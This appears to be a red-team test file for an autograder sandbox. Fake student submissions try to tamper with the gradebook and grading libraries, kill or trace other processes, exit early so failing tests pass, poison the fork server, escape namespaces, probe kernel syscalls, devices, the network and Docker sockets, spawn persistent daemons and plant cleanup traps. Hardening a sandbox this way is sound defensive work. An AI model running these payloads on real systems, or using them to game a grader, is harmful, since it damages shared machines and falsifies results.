"""Attacks on what lies outside: the gradebook, other processes, the fork server, and the kernel beneath them."""

from tests.redteam.register import HARMFUL, RIGHT_KIND, attack


@attack("damage", stock=HARMFUL)
def writing_grades(sheet):
    """The gradebook, the checks and numpy itself are written to, under every path that could be theirs."""
    write = (
        "import os, dlopt, numpy\n"
        "found = [os.path.join(d, f) for d, _, fs in os.walk('/') for f in fs if f == 'gradebook.db']\n"
        "places = [*found, dlopt.__file__, numpy.__file__, '/etc/hosts']\n"
        "for place in places:\n"
        "    try:\n        open(place, 'a').write('3.0'); print('FOUND', place)\n    except OSError: pass\n"
        "print(os.system('nbgrader autograde ps2_quadratics --force'))\n"
    )
    return sheet.answer(quadratic=write)


@attack("damage", earns={"condition_number": 2, **RIGHT_KIND}, stock=HARMFUL)
def killing(sheet):
    """Whatever runs beside the student's process is killed, traced or drowned in signals."""
    kill = (
        "import os, signal, ctypes\n"
        "def shoot():\n    libc = ctypes.CDLL(None)\n"
        "    others = {1, 2, 3, os.getppid(), *(int(p) for p in os.listdir('/proc') if p.isdigit())}\n"
        "    for pid in others - {os.getpid()}:\n"
        "        libc.ptrace(16, pid, 0, 0)\n"
        "        for s in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):\n"
        "            try: os.kill(pid, s)\n            except OSError: pass\n"
        "shoot()\n"
        "def quadratic(A, b, w):\n    shoot()\n    return 0.0, b"
    )
    return sheet.honest("condition_number").answer(quadratic=kill)


@attack(
    "damage",
    earns={"condition_number": 2},
    kinds={"quadratic": "crashed", "condition_number": "pass", "softmax": "crashed"},
    stock=HARMFUL,
)
def quiet_exit(sheet):
    """The process ends with status 0 before the test can fail."""
    return sheet.honest("condition_number").answer(
        quadratic="import os\ndef quadratic(A, b, w):\n    os._exit(0)", softmax="def softmax(x):\n    os._exit(0)"
    )


@attack("damage", earns={"newton_step": 2}, stock=HARMFUL)
def forked_copies(sheet):
    """Children of the student's process answer in its place, and stay behind."""
    fork = (
        "import os, time\n"
        "def quadratic(A, b, w):\n    for _ in range(3):\n        if os.fork() == 0: return 0.0, np.zeros(len(b))\n"
        "    if os.fork() == 0: time.sleep(1000)\n    return 1.0, b"
    )
    return sheet.honest("newton_step").answer(quadratic=fork)


@attack("damage", earns={"condition_number": 2}, stock=HARMFUL)
def fork_server_poisoned(sheet):
    """Numpy, Python's builtins and the guest are changed in memory and on disk, for whoever is graded next."""
    return sheet.honest("condition_number").answer(
        quadratic="""
        import builtins, ctypes, os, sys
        np.redteam = True
        np.allclose = lambda *a, **k: True
        builtins.abs = lambda x: 0
        for name, module in list(sys.modules.items()):
            file = getattr(module, "__file__", None)
            if file and ("autograder" in file or "numpy/__init__" in file):
                for way in (lambda f: open(f, "a").write("x = 1"), os.unlink, lambda f: os.rename(f, f + "x")):
                    try: way(file); print("FOUND", file)
                    except OSError: pass
        for name in ("/bundle", "/site/numpy", "/site"):
            try: os.symlink("/tmp", name + "/redteam-mark"); print("FOUND", name)
            except OSError: pass
        five = ctypes.cast(id(5), ctypes.POINTER(ctypes.c_byte * 32)).contents
        libc = ctypes.CDLL(None)
        page = 4096
        libc.mprotect(ctypes.c_void_p(id(np.add) // page * page), page, 7)
        """
    )


@attack("damage", stock=HARMFUL)
def namespaces_and_mounts(sheet):
    """New user, mount and process namespaces, mounts, chroot and pivot_root would make a student root again."""
    return sheet.answer(
        quadratic="""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        tried = {flag: libc.unshare(flag) for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000)}
        tried["mount"] = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
        tried["remount"] = libc.mount(b"none", b"/", None, 0x1000 | 32, None)
        tried["bind"] = libc.mount(b"/tmp", b"/bundle", None, 0x1000, None)
        tried["umount"] = libc.umount2(b"/proc", 2)
        for name in ("chroot", "setuid", "setgid", "seteuid"):
            try: getattr(os, name)("/tmp" if name == "chroot" else 0); tried[name] = os.getuid() or 0
            except OSError: tried[name] = -1
        tried["clone"] = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
        tried["clone3"] = libc.syscall(435, ctypes.create_string_buffer(88), 88)
        tried["open_tree"] = libc.syscall(428, -100, b"/", 1)
        tried["by_handle"] = libc.syscall(304, -100, ctypes.create_string_buffer(64), 0)
        print("FOUND" if any(v != -1 for v in tried.values()) else "all refused", tried)
        """
    )


@attack("damage", stock=HARMFUL)
def corners_of_the_kernel(sheet):
    """ptrace, other processes' memory, keys, BPF, io_uring, userfaultfd, perf, kexec, modules and the clock."""
    return sheet.answer(
        quadratic="""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(256)
        calls = dict(ptrace=(101, 16, 1, 0, 0), readv=(310, 1, buffer, 1, buffer, 1, 0), writev=(311, 1, buffer, 1, buffer, 1, 0),
            keyctl=(250, 0, -3, 1), add_key=(248, b"user", b"x", b"y", 1, -3), bpf=(321, 0, buffer, 120),
            io_uring=(425, 8, buffer), userfaultfd=(323, 0), perf=(298, buffer, 0, -1, -1, 0), kexec=(246, 0, 0, 0, 0),
            module=(313, 0, b"", 0), clock=(227, 0, buffer), hostname=(170, b"evil", 4), reboot=(169, 1, 2, 3, 4),
            swapoff=(168, b"/x"), acct=(163, b"/tmp/redteam-mark"), quota=(179, 0, 0, 0, 0), syslog=(103, 3, buffer, 256),
            setns=(308, 0, 0), pidfd_getfd=(438, 3, 3, 0), fanotify=(300, 0, 0), iopl=(172, 3), move_pages=(279, 1, 0, 0, 0, 0, 0))
        done = [name for name, (number, *rest) in calls.items() if libc.syscall(number, *rest) != -1]
        print("FOUND" if done else "all refused", done)
        """.replace(" writev=(311", "\n            writev=(311").replace(" move_pages", "\n            move_pages")
    )


@attack("damage", stock=HARMFUL)
def devices(sheet):
    """Disks, memory, terminals and the machine's other devices are looked for, made anew and written to."""
    return sheet.answer(
        quadratic="""
        import os, stat, glob
        made = []
        for name, kind, number in (("sda", stat.S_IFBLK, (8, 0)), ("vda", stat.S_IFBLK, (254, 0)), ("mem", stat.S_IFCHR, (1, 1)),
                                   ("kmsg", stat.S_IFCHR, (1, 11)), ("tty", stat.S_IFCHR, (5, 0)), ("fuse", stat.S_IFCHR, (10, 229))):
            try: os.mknod(f"/tmp/{name}", kind | 0o666, os.makedev(*number)); made.append(name)
            except OSError: pass
        seen = set(glob.glob("/dev/*")) - {f"/dev/{n}" for n in ("null", "zero", "full", "random", "urandom", "shm")}
        for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/kvm", "/sys/kernel/debug", "/sys/power/state"):
            if os.path.exists(path): seen.add(path)
        try: os.openpty(); made.append("pty")
        except OSError: pass
        print("FOUND" if made or seen else "none", made, seen)
        """.replace(' ("mem",', '\n            ("mem",').replace(' ("fuse",', '\n            ("fuse",')
    )


@attack("damage", stock=HARMFUL)
def network(sheet):
    """The internet, the machine's own ports, its metadata service and its sockets are called."""
    return sheet.answer(
        quadratic="""
        import glob, os, socket, urllib.request
        reached = []
        for address in (("1.1.1.1", 53), ("127.0.0.1", 8888), ("127.0.0.1", 22), ("169.254.169.254", 80), ("::1", 8888)):
            try: socket.create_connection(address, timeout=0.3); reached.append(address)
            except OSError: pass
        paths = ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"]
        paths += [*glob.glob("/tmp/**/*.sock", recursive=True), *glob.glob("/run/user/*/*"), "/tmp/.X11-unix/X0"]
        paths += ["\\0/tmp/.X11-unix/X0", "\\0/tmp/dbus-session", "\\0/containerd-shim"]
        paths += [line.split()[7].replace("@", "\\0") for line in open("/proc/net/unix") if len(line.split()) == 8]
        for path in paths:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                try: socket.socket(socket.AF_UNIX, kind).connect(path); reached.append(path)
                except OSError: pass
        for family in range(1, 46):
            for kind in (1, 2, 3):
                for make in (socket.socket, socket.socketpair):
                    try: make(family, kind)
                    except OSError: continue
                    if family != socket.AF_UNIX: reached.append((family, kind))
        try: urllib.request.urlopen("http://example.org", timeout=0.3); reached.append("http")
        except OSError: pass
        print("FOUND" if reached else "nobody answers", reached)
        """
    )


@attack("damage", stock=HARMFUL)
def daemons(sheet):
    """Children in sessions of their own, deaf to signals, stay behind and go on writing."""
    return sheet.answer(
        quadratic="""
        import ctypes, os, signal, subprocess, sys, time
        def stay(depth):
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"redteam-mark", 0, 0, 0)
            for s in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}: signal.signal(s, signal.SIG_IGN)
            while True:
                if depth and os.fork() == 0: depth -= 1; continue
                try: open("/tmp/redteam-mark", "a").write("x")
                except OSError: pass
                time.sleep(0.01)
        for _ in range(3):
            if os.fork() == 0: stay(2)
        subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(600)  # redteam-mark"], start_new_session=True)
        def quadratic(A, b, w):
            return 0.0
        """
    )


@attack("damage", earns={"condition_number": 2}, stock=HARMFUL)
def limits_lifted(sheet):
    """Resource limits, priorities, the choice of processors and the out-of-memory score are set to one's favour."""
    return sheet.honest("condition_number").answer(
        quadratic="""
        import os, resource
        done = []
        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                which = getattr(resource, name)
                soft, hard = resource.getrlimit(which)
                for pid in (0, 1, os.getppid()):
                    try:
                        resource.prlimit(pid, which, (hard + 1 if hard > 0 else hard, hard + 1 if hard > 0 else -1))
                        if hard not in (-1, resource.RLIM_INFINITY): done.append((name, pid))
                    except (OSError, ValueError, OverflowError): pass
        for attempt in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
                        lambda: os.setpriority(os.PRIO_PROCESS, 1, 5), lambda: os.sched_setaffinity(1, {0}),
                        lambda: open("/proc/1/oom_score_adj", "w").write("1000"),
                        lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
                        lambda: open("/proc/self/oom_score_adj", "w").write("0")):
            try: attempt(); done.append(attempt.__code__.co_firstlineno)
            except OSError: pass
        print("FOUND" if done else "all refused", done)
        """
    )


@attack("damage", stock=HARMFUL)
def traps_for_the_cleaner(sheet):
    """Links to what must not be removed, locked and endless folders, pipes and strange names wait to be wiped."""
    return sheet.answer(
        quadratic="""
        import os
        for top in ("/tmp", "/dev/shm", os.path.expanduser("~")):
            os.chdir(top)
            os.symlink("/bundle", "bundle"); os.symlink("..", "up"); os.symlink("/proc/1/root", "root"); os.symlink("a", "a")
            os.mkfifo("pipe"); os.mkdir("locked", 0); os.mkdir("x" * 255)
            for name in ("-rf", "*", "\\n", "\\x1b[2J", "redteam-mark", b"\\xff\\xfe"):
                open(name, "w").close()
            for _ in range(300):
                os.mkdir("d"); os.chdir("d")
            os.chmod(top, 0o0) if os.stat(top).st_uid == os.getuid() else None
        """
    )
